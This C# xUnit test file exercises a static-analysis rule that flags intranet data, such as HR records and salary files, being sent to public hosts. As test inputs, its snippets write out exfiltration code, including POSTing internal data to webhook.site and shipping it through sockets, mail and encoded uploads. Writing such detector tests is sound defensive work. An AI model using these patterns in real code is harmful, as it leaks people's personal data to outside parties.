using HygieneAnalyzers.Rules.Network;
using HygieneAnalyzers.Tests.Testing;
using Xunit;

namespace HygieneAnalyzers.Tests.Rules.Network;

public class IntranetDataLeavesTests
{
    [Fact]
    public Task Reports_a_response_that_is_posted() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var people = await http.GetStringAsync({|also:"https://hr.internal/people"|});
        await http.PostAsync({|also:"https://api.partner.com/v1"|}, [|new StringContent(people)|]);
        """)
        .Message("Data from 'hr.internal' in the intranet is sent to 'api.partner.com' in the public network; keep it inside, or let a declared gateway decide what may leave")
        .Reports();

    [Fact]
    public Task Reports_exfiltration_hosts() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var people = await http.GetStringAsync("https://10.1.2.3/people");
        await http.PostAsync("https://webhook.site/1", [|new StringContent(people)|]);
        """)
        .Message("Data from '10.1.2.3' in the intranet is sent to 'webhook.site' in the public network, where anybody can take data in; keep it inside, or let a declared gateway decide what may leave")
        .Reports();

    [Fact]
    public Task Reports_data_in_the_url_of_an_exfiltration_host() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var people = await http.GetStringAsync("https://10.1.2.3/people");
        await http.GetAsync([|$"https://webhook.site/1?d={people}"|]);
        """).Reports();

    [Fact]
    public Task Reports_through_streams_and_json() => Check<IntranetDataLeaves>.Code("""
        using System.Collections.Generic;
        using System.Linq;
        using System.Net.Http;
        using System.Net.Http.Json;
        using System.Threading.Tasks;
        class Job(HttpClient http)
        {
            record Person(string Name, string Phone);

            async Task Run()
            {
                var people = await http.GetFromJsonAsync<List<Person>>("https://hr.corp/people");
                var names = people!.Where(p => p.Phone != "").Select(p => p.Name).ToList();
                await http.PostAsJsonAsync("https://api.partner.com/v1", [|names|]);
                using var stream = await http.GetStreamAsync("https://hr.corp/photo");
                await http.PutAsync("https://api.partner.com/upload", [|new StreamContent(stream)|]);
            }
        }
        """).Reports();

    [Fact]
    public Task Reports_through_loops_and_builders() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var text = new StringBuilder();
        foreach (var line in File.ReadLines(@"\\fileserver.corp\hr\salaries.csv"))
        {
            text.AppendLine(line.Trim());
        }

        await http.PostAsync("https://api.partner.com/v1", [|new StringContent(text.ToString())|]);
        """).Reports();

    [Fact]
    public Task Reports_clients_that_are_set_up_elsewhere_in_the_type() => Check<IntranetDataLeaves>.Code("""
        using System.Net.Http;
        using System.Threading.Tasks;
        class Job
        {
            private readonly HttpClient _inside = new() { BaseAddress = new("https://hr.internal/") };
            private readonly HttpClient _outside;

            public Job(HttpClient outside)
            {
                _outside = outside;
                _outside.BaseAddress = new("https://api.partner.com/");
            }

            async Task Run()
            {
                var people = await _inside.GetStringAsync("people");
                await _outside.PostAsync("v1", [|new StringContent(people)|]);
            }
        }
        """).Reports();

    [Fact]
    public Task Reports_requests() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var people = await http.GetByteArrayAsync("https://hr.internal/people");
        var request = new HttpRequestMessage(HttpMethod.Post, "https://api.partner.com/v1") { Content = [|new ByteArrayContent(people)|] };
        await http.SendAsync(request);
        """).Reports();

    [Fact]
    public Task Reports_databases() => Check<IntranetDataLeaves>.Code("""
        using System.Net;
        using System.Data.SqlClient;
        class Job
        {
            void Run()
            {
                using (var connection = new SqlConnection("Server=sql01.corp;Database=hr;Integrated Security=true"))
                using (var command = new SqlCommand("select name from people", connection))
                using (var reader = command.ExecuteReader())
                using (var client = new WebClient())
                {
                    while (reader.Read())
                    {
                        client.UploadString("https://api.partner.com/v1", [|reader.GetString(0)|]);
                    }
                }
            }
        }
        """).On(Platform.Net48).Reports();

    [Fact]
    public Task Reports_mail() => Check<IntranetDataLeaves>.Statements("""
        var people = File.ReadAllText(@"\\fileserver.corp\hr\salaries.csv");
        var smtp = new System.Net.Mail.SmtpClient("smtp.partner.com");
        smtp.Send("a@a.example", "b@b.example", "people", [|people|]);
        """).Reports();

    [Theory]
    [InlineData("""using var memory = new MemoryStream(); using var source = await http.GetStreamAsync("https://hr.corp/a.zip"); await source.CopyToAsync(memory); await http.PutAsync("https://api.partner.com/up", [|new StreamContent(memory)|]);""")]
    [InlineData("""var path = Path.GetTempFileName(); using var source = await http.GetStreamAsync("https://hr.corp/a.zip"); using (var file = File.Create(path)) { await source.CopyToAsync(file); } using var up = File.OpenRead(path); await http.PutAsync("https://api.partner.com/up", [|new StreamContent(up)|]);""")]
    [InlineData("""var path = Path.GetTempFileName(); File.WriteAllText(path, await http.GetStringAsync("https://hr.corp/a")); await http.PutAsync("https://api.partner.com/up", [|new StringContent(File.ReadAllText(path))|]);""")]
    [InlineData("""var tasks = args.Select(a => http.GetStringAsync($"https://hr.corp/{a}")); var all = await Task.WhenAll(tasks); await http.PostAsync("https://api.partner.com/up", [|new StringContent(string.Join(",", all))|]);""")]
    [InlineData("""var text = await http.GetStringAsync("https://hr.corp/a"); using var tcp = new System.Net.Sockets.TcpClient("collector.partner.com", 9000); using var stream = tcp.GetStream(); stream.Write([|Encoding.UTF8.GetBytes(text)|]);""")]
    [InlineData("""var text = await http.GetStringAsync("https://hr.corp/a"); var socket = new System.Net.WebSockets.ClientWebSocket(); await socket.ConnectAsync(new Uri("wss://feed.partner.com/x"), default); await socket.SendAsync([|Encoding.UTF8.GetBytes(text)|], System.Net.WebSockets.WebSocketMessageType.Text, true, default);""")]
    [InlineData("""var lines = File.ReadAllLines(@"\\fs.corp\hr\a.csv").ToList(); lines.ForEach(line => http.PostAsync("https://api.partner.com/up", [|new StringContent(line)|]));""")]
    [InlineData("""var text = Convert.ToBase64String(Encoding.UTF8.GetBytes(await http.GetStringAsync("https://hr.corp/a"))); using var form = new MultipartFormDataContent(); form.Add(new StringContent(text), "file"); await http.PostAsync("https://api.partner.com/up", [|form|]);""")]
    public Task Reports_through_streams_files_lambdas_and_channels(string statements) => Check<IntranetDataLeaves>
        .Statements("var http = new HttpClient();\n" + statements).Reports();

    [Fact]
    public Task Reports_through_helpers_of_the_type() => Check<IntranetDataLeaves>.Code("""
        using System.Net.Http;
        using System.Threading.Tasks;
        class Job(HttpClient http)
        {
            static string Clean(string text) => text.Trim();
            async Task Run() => await http.PostAsync("https://api.partner.com/v1", [|new StringContent(Clean(await http.GetStringAsync("https://hr.internal/people")))|]);
        }
        """).Reports();

    [Fact]
    public Task Reports_through_retries() => Check<IntranetDataLeaves>.Code("""
        using System;
        using System.Net.Http;
        using System.Threading.Tasks;
        class Job(HttpClient http)
        {
            static async Task<T> Retry<T>(Func<Task<T>> action) => await action();
            async Task Run()
            {
                var text = await Retry(() => http.GetStringAsync("https://hr.internal/people"));
                await http.PostAsync("https://api.partner.com/v1", [|new StringContent(text)|]);
            }
        }
        """).Reports();

    [Fact]
    public Task Is_silent_on_a_helper_that_keeps_what_it_is_given() => Check<IntranetDataLeaves>.Code("""
        using System.Net.Http;
        using System.Threading.Tasks;
        class Job(HttpClient http)
        {
            static string Log(string text) { System.Console.WriteLine(text); return "done"; }
            async Task Run() => await http.PostAsync("https://api.partner.com/v1", new StringContent(Log(await http.GetStringAsync("https://hr.internal/people"))));
        }
        """).Silent();

    [Theory]
    [InlineData("new { up = response.IsSuccessStatusCode }")]
    [InlineData("new { code = response.StatusCode }")]
    [InlineData("new { size = (await response.Content.ReadAsStringAsync()).Length }")]
    [InlineData("new { isThere = (await response.Content.ReadAsStringAsync()).Contains(input) }")]
    public Task Is_silent_on_what_says_nothing_of_the_data(string body) => Check<IntranetDataLeaves>.Code($$"""
        using System.Net.Http;
        using System.Net.Http.Json;
        using System.Threading.Tasks;
        class Job(HttpClient http)
        {
            async Task Run(string input)
            {
                var response = await http.GetAsync("https://hr.internal/people");
                await http.PostAsJsonAsync("https://api.partner.com/v1", {{body}});
            }
        }
        """).Silent();

    [Fact]
    public Task Reports_registered_clients() => Check<IntranetDataLeaves>.Code("""
        using System;
        using System.Net.Http;
        using System.Net.Http.Json;
        using System.Threading.Tasks;
        using Microsoft.Extensions.DependencyInjection;
        class Job(IHttpClientFactory factory)
        {
            async Task Run()
            {
                var data = await factory.CreateClient("hr").GetStringAsync("people");
                var partner = factory.CreateClient("partner");
                await partner.PostAsJsonAsync("in", [|new { data }|]);
            }
        }
        static class Startup
        {
            public static void Add(IServiceCollection s)
            {
                s.AddHttpClient("hr", c => c.BaseAddress = new Uri("http://hr.corp.local/"));
                s.AddHttpClient("partner", c => c.BaseAddress = new Uri("https://api.partner.com/"));
            }
        }
        """).Reports();

    [Fact]
    public Task Is_silent_on_a_member_that_is_a_gateway() => Check<IntranetDataLeaves>.Code("""
        using System.Net.Http;
        sealed class ZoneGatewayAttribute : System.Attribute { }
        class Job(HttpClient http)
        {
            [ZoneGateway]
            async System.Threading.Tasks.Task M() => await http.PostAsync(
                "https://api.partner.com/v1", new StringContent(await http.GetStringAsync("https://hr.internal/people")));
        }
        """).Silent();

    [Fact]
    public Task Stands_alone_where_data_leaves() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        await http.PostAsync("https://api.partner.com/v1", [|new StringContent(await http.GetStringAsync("https://hr.internal/people"))|]);
        """).Beside<MixedZones>().Reports();

    [Fact]
    public Task Stands_beside_another_public_host() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        await http.PostAsync("https://api.partner.com/v1", [|new StringContent(await http.GetStringAsync("https://hr.internal/people"))|]);
        await http.GetStringAsync({|HYG4001:"https://api.other.com/v1"|});
        """).Beside<MixedZones>().Reports();

    [Fact]
    public Task Is_silent_on_unrelated_data() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var people = await http.GetStringAsync("https://hr.internal/people");
        Console.WriteLine(people);
        await http.PostAsync("https://api.partner.com/v1", new StringContent(input));
        """).Silent();

    [Fact]
    public Task Is_silent_on_the_way_in() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var rates = await http.GetStringAsync("https://api.partner.com/rates");
        await http.PostAsync("https://erp.internal/rates", new StringContent(rates));
        """).Silent();

    [Fact]
    public Task Is_silent_on_a_variable_that_was_overwritten() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var text = await http.GetStringAsync("https://hr.internal/people");
        Console.WriteLine(text);
        text = await http.GetStringAsync("https://api.partner.com/rates");
        await http.PostAsync("https://api.partner.com/v1", new StringContent(text));
        """).Silent();

    [Fact]
    public Task Is_silent_on_the_answer_of_a_public_host() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var id = await http.GetStringAsync("https://hr.internal/id");
        var rate = await http.GetStringAsync($"https://api.partner.com/rates/{id}");
        await http.PostAsync("https://api.other.com/v1", new StringContent(rate));
        """).Silent();

    [Theory]
    [InlineData("https://localhost/people", "https://api.partner.com/v1")]
    [InlineData("https://hr.internal/people", "https://erp.internal/v1")]
    [InlineData("https://hr.internal/people", "https://localhost:5000/v1")]
    [InlineData("https://hr.internal/people", "https://www.example.com/v1")]
    [InlineData("https://api.other.com/people", "https://api.partner.com/v1")]
    [InlineData("https://www.example.com/people", "https://api.partner.com/v1")]
    public Task Is_silent_on_other_pairs(string from, string to) => Check<IntranetDataLeaves>.Statements($$"""
        var http = new HttpClient();
        var people = await http.GetStringAsync("{{from}}");
        await http.PostAsync("{{to}}", new StringContent(people));
        """).Silent();

    [Fact]
    public Task Is_silent_on_lookups() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var currency = await http.GetStringAsync("https://erp.internal/currency");
        var rate = await http.GetStringAsync($"https://api.partner.com/rates/{currency}");
        """).Silent();

    [Fact]
    public Task Is_silent_on_a_local_file() => Check<IntranetDataLeaves>.Statements("""
        await new HttpClient().PostAsync("https://api.partner.com/v1", new StringContent(File.ReadAllText(@"C:\data\report.csv")));
        """).Silent();

    [Fact]
    public Task Is_silent_in_a_gateway() => Check<IntranetDataLeaves>.Code("""
        using System.Net.Http;
        sealed class ZoneGatewayAttribute : System.Attribute { }
        [ZoneGateway]
        class Gateway(HttpClient http)
        {
            async System.Threading.Tasks.Task M() => await http.PostAsync(
                "https://api.partner.com/v1", new StringContent(await http.GetStringAsync("https://hr.internal/people")));
        }
        """).Silent();

    [Fact]
    public Task Is_silent_in_test_projects() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        await http.PostAsync("https://api.partner.com/v1", new StringContent(await http.GetStringAsync("https://hr.internal/people")));
        """).InTestProject().Silent();

    [Fact]
    public Task Is_silent_on_the_same_service_under_two_hosts() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var body = flag ? await http.GetStringAsync("https://hr.internal/people") : input;
        if (!flag) { await http.PostAsync("https://api.partner.com/v1", new StringContent(input)); }
        """).Silent();

    [Fact]
    public Task Misses_data_that_crosses_methods() => Check<IntranetDataLeaves>.Code("""
        using System.Net.Http;
        using System.Threading.Tasks;
        class Job(HttpClient http)
        {
            Task<string> People() => http.GetStringAsync("https://hr.internal/people");
            async Task Run() => await http.PostAsync("https://api.partner.com/v1", new StringContent(await People()));
        }
        """).Silent();
}
